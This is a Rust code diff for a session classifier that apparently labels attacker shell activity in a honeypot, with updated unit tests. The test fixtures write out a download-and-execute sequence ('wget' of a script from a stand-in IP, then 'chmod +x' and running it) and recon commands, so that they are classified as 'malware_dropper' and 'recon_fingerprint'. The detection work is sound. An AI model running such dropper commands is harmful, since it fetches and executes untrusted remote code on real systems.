@@ -17,6 +17,7 @@ use chrono::{DateTime, Utc};
 use super::SessionActor;
 use crate::events::EventKind;
 use crate::models::classifier::Prediction;
+use crate::models::commands::Command;
 use crate::models::context::Login;
 use crate::models::features::{FEATURES, Protocol, SessionFeatures};
 use crate::models::{Class, Models};
@@ -78,9 +79,15 @@ impl Classifier {
         }
     }
 
-    /// Takes one input line typed at `at`: what to do about the session's class. `None` when
+    /// Takes one input line typed at `at`, split into `commands`: what to do about the
+    /// session's class. `None` when
     /// nothing changed, or for blank lines and lines beyond [`MAX_LINES`] or [`MAX_BYTES`].
-    pub(super) fn observe(&mut self, at: DateTime<Utc>, line: &str) -> Option<Next> {
+    pub(super) fn observe(
+        &mut self,
+        at: DateTime<Utc>,
+        line: &str,
+        commands: Vec<Command>,
+    ) -> Option<Next> {
         if line.trim().is_empty()
             || self.lines >= MAX_LINES
             || self.bytes.saturating_add(line.len()) > MAX_BYTES
@@ -90,7 +97,7 @@ impl Classifier {
         let seconds = (at - self.started)
             .to_std()
             .map_or(0.0, |elapsed| elapsed.as_secs_f64());
-        self.features.push(Some(seconds), line);
+        self.features.push_commands(Some(seconds), line, commands);
         self.lines += 1;
         self.bytes += line.len();
         match &self.models {
@@ -150,8 +157,11 @@ impl Classifier {
 impl SessionActor {
     /// Re-decides the session's class after `line` (by the trained classifier, or by the
     /// rules without one) and announces a change.
-    pub(super) fn classify_line(&mut self, line: &str) {
-        let kind = match self.classifier.observe(self.deps.clock.now(), line) {
+    pub(super) fn classify_line(&mut self, line: &str, commands: Vec<Command>) {
+        let kind = match self
+            .classifier
+            .observe(self.deps.clock.now(), line, commands)
+        {
             None => None,
             Some(Next::Announce(kind)) => Some(kind),
             Some(Next::Ask(features)) => match self.classifier.predict(&features) {
@@ -170,6 +180,12 @@ mod tests {
     use super::*;
     use chrono::TimeDelta;
 
+    impl Classifier {
+        fn observe_line(&mut self, at: DateTime<Utc>, line: &str) -> Option<Next> {
+            self.observe(at, line, crate::models::commands::split(line))
+        }
+    }
+
     fn class_of(next: Option<Next>) -> Option<String> {
         match next {
             Some(Next::Announce(EventKind::Classification { class, source, .. })) => {
@@ -186,16 +202,16 @@ mod tests {
         let mut c = Classifier::new(start, Arc::default(), &Login::default());
         let at = |s| start + TimeDelta::seconds(s);
         assert_eq!(
-            class_of(c.observe(at(1), "uname -a")).as_deref(),
+            class_of(c.observe_line(at(1), "uname -a")).as_deref(),
             Some("recon_fingerprint")
         );
-        assert!(c.observe(at(1), "   ").is_none());
-        assert!(c.observe(at(2), "cat /proc/cpuinfo").is_none());
+        assert!(c.observe_line(at(1), "   ").is_none());
+        assert!(c.observe_line(at(2), "cat /proc/cpuinfo").is_none());
         assert_eq!(
-            class_of(c.observe(at(3), "cd /tmp; wget http://198.51.100.9/x.sh")).as_deref(),
+            class_of(c.observe_line(at(3), "cd /tmp; wget http://198.51.100.9/x.sh")).as_deref(),
             Some("malware_dropper")
         );
-        assert!(c.observe(at(4), "chmod +x x.sh; ./x.sh").is_none());
+        assert!(c.observe_line(at(4), "chmod +x x.sh; ./x.sh").is_none());
     }
 
     #[test]
@@ -203,11 +219,14 @@ mod tests {
         let start = Utc::now();
         let mut c = Classifier::new(start, Arc::default(), &Login::default());
         for _ in 0..MAX_LINES {
-            c.observe(start, "uname");
+            c.observe_line(start, "uname");
         }
-        assert!(c.observe(start, "wget http://198.51.100.9/x").is_none());
+        assert!(
+            c.observe_line(start, "wget http://198.51.100.9/x")
+                .is_none()
+        );
         let mut c = Classifier::new(start, Arc::default(), &Login::default());
-        assert!(c.observe(start, &"x".repeat(MAX_BYTES + 1)).is_none());
+        assert!(c.observe_line(start, &"x".repeat(MAX_BYTES + 1)).is_none());
         assert_eq!(c.lines, 0);
     }
 
